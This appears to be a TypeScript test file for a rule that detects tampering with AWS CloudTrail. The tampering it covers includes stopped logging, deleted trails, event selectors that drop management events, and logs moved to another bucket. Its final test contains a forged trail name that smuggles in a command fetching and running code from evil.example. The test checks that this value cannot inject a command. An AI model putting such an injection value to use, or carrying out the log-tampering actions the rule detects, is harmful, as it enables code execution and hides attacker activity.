import {test} from 'node:test';
import assert from 'node:assert/strict';
import type {EventSpec} from '../helpers/make-event.js';
import {
	clients,
	flagFor,
	lastFlag,
	person,
	textOf,
	variants,
} from './change-events.js';
import {unquoted} from './identity-events.js';

const id = 'cloudtrail-tampering';

const trail = (
	eventName: string,
	requestParameters: Record<string, unknown>,
	extra: EventSpec = {},
): EventSpec => ({
	...person,
	eventName,
	eventSource: 'cloudtrail.amazonaws.com',
	requestParameters,
	...extra,
});

const stop = trail('StopLogging', {
	name: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail',
});

test('StopLogging is high, names the trail and offers to start it again', () => {
	const flag = flagFor(stop, id);
	assert.equal(flag?.severity, 'high');
	assert.equal(flag?.title, 'CloudTrail logging stopped');
	assert.match(
		flag?.evidence[0] ?? '',
		/^StopLogging at .* by mallory from 198\.51\.100\.23 \(outside AWS\), on the trail org-trail\.$/,
	);
	assert.ok(
		flag?.next.includes(
			'If nobody meant this, restart it: aws cloudtrail start-logging --name org-trail --region us-east-1',
		),
	);
});

test('a refused StopLogging is still flagged, one step lower, and says so', () => {
	const flag = flagFor(variants(stop).denied!, id);
	assert.equal(flag?.severity, 'medium');
	assert.match(
		textOf(flag),
		/AWS refused it \(AccessDenied\): nothing changed/,
	);
});

test('DeleteTrail by Terraform is low and names the tool', () => {
	const flag = flagFor(
		trail('DeleteTrail', {name: 'test-trail'}, {ua: clients.terraform}),
		id,
	);
	assert.equal(flag?.severity, 'low');
	assert.equal(flag?.title, 'CloudTrail trail deleted');
	assert.match(textOf(flag), /Terraform made the change/);
});

test('near miss: an AWS service acting for itself or for a principal is not flagged', () => {
	const v = variants(stop);
	assert.equal(flagFor(v.awsService!, id), undefined);
	assert.equal(flagFor(v.invokedByService!, id), undefined);
});

test('the address does not soften tampering: VPC endpoint, AWS Internal, no address, console', () => {
	const v = variants(stop);
	for (const name of ['vpcEndpoint', 'awsInternal', 'noAddress', 'console']) {
		assert.equal(flagFor(v[name]!, id)?.severity, 'high', name);
	}
});

test('an attack tool in the user agent is named in the evidence', () => {
	const flag = flagFor({...stop, ua: clients.stratus}, id);
	assert.match(textOf(flag), /names Stratus Red Team, an attack or audit tool/);
});

test('event selectors without management events are high', () => {
	const flag = flagFor(
		trail('PutEventSelectors', {
			trailName: 'org-trail',
			eventSelectors: [
				{
					readWriteType: 'ReadOnly',
					includeManagementEvents: false,
					dataResources: [{type: 'AWS::S3::Object', values: []}],
					excludeManagementEventSources: [],
				},
			],
		}),
		id,
	);
	assert.equal(flag?.severity, 'high');
	assert.equal(flag?.title, 'CloudTrail event selectors cut down');
	assert.match(textOf(flag), /stops recording management events/);
	assert.match(textOf(flag), /put-event-selectors --trail-name org-trail/);
});

test('read-only selectors are high, write-only and excluded sources are medium', () => {
	const selectors = (readWriteType: string, excluded: string[] = []) =>
		flagFor(
			trail('PutEventSelectors', {
				trailName: 't',
				eventSelectors: [
					{
						readWriteType,
						includeManagementEvents: true,
						excludeManagementEventSources: excluded,
					},
				],
			}),
			id,
		);
	assert.equal(selectors('ReadOnly')?.severity, 'high');
	assert.equal(selectors('WriteOnly')?.severity, 'medium');
	const excluded = selectors('All', ['kms.amazonaws.com']);
	assert.equal(excluded?.severity, 'medium');
	assert.match(
		textOf(excluded),
		/leaves out the management events of kms\.amazonaws\.com/,
	);
});

test('near miss: selectors that record everything are not flagged', () => {
	assert.equal(
		flagFor(
			trail('PutEventSelectors', {
				trailName: 't',
				eventSelectors: [
					{
						readWriteType: 'All',
						includeManagementEvents: true,
						dataResources: [],
						excludeManagementEventSources: [],
					},
				],
			}),
			id,
		),
		undefined,
	);
});

test('advanced selectors: management kept is fine, management dropped or read-only is high', () => {
	const advanced = (...fieldSelectors: unknown[]) =>
		flagFor(
			trail('PutEventSelectors', {
				trailName: 't',
				advancedEventSelectors: [{name: 'm', fieldSelectors}],
			}),
			id,
		);
	assert.equal(
		advanced({field: 'eventCategory', equals: ['Management']}),
		undefined,
	);
	assert.equal(
		advanced({field: 'eventCategory', equals: ['Data']})?.severity,
		'high',
	);
	assert.equal(
		advanced(
			{field: 'eventCategory', equals: ['Management']},
			{field: 'readOnly', equals: ['true']},
		)?.severity,
		'high',
	);
});

test('UpdateTrail moving the logs names the old and the new bucket', () => {
	const flag = lastFlag(
		[
			trail(
				'CreateTrail',
				{name: 'org-trail', s3BucketName: 'company-trail-logs'},
				{time: '2024-05-01T09:00:00Z'},
			),
			trail('UpdateTrail', {
				name: 'org-trail',
				s3BucketName: 'elsewhere-bucket',
			}),
		],
		id,
	);
	assert.equal(flag?.severity, 'high');
	assert.equal(flag?.title, 'CloudTrail trail weakened');
	assert.match(
		textOf(flag),
		/moves the logs from bucket company-trail-logs to elsewhere-bucket/,
	);
	assert.match(
		textOf(flag),
		/The trail org-trail was created at 09:00:00 by mallory, the same identity\./,
	);
});

test('UpdateTrail: single-region is high, no validation is medium, no weakening is nothing', () => {
	assert.equal(
		flagFor(trail('UpdateTrail', {name: 't', isMultiRegionTrail: false}), id)
			?.severity,
		'high',
	);
	assert.equal(
		flagFor(
			trail('UpdateTrail', {name: 't', enableLogFileValidation: false}),
			id,
		)?.severity,
		'medium',
	);
	assert.equal(
		flagFor(trail('UpdateTrail', {name: 't', isMultiRegionTrail: true}), id),
		undefined,
	);
});

test('Insights turned off is low', () => {
	const flag = flagFor(
		trail('PutInsightSelectors', {trailName: 't', insightSelectors: []}),
		id,
	);
	assert.equal(flag?.severity, 'low');
});

test('a forged trail name cannot turn a suggested command into another command', () => {
	const flag = flagFor(
		trail('StopLogging', {name: "x'; $(curl evil.example | sh) #"}),
		id,
	);
	for (const line of flag?.next ?? []) {
		assert.doesNotMatch(unquoted(line), /\$\(|UNTERMINATED|;/, line);
	}
});
